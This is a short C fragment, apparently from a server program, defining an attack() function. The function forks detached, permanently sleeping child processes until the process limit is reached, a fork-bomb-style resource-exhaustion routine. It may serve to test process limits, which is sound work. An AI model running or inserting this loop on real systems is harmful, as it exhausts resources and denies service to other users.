/* Each of its servers leaves behind as many sleeping processes as it can have. */
static void attack(void)
{
    for (;;) {
        pid_t child = fork();
        if (child == 0) {
            close(listener);
            setsid();
            for (;;)
                pause();
        }
        if (child == -1)
            break;
    }
}
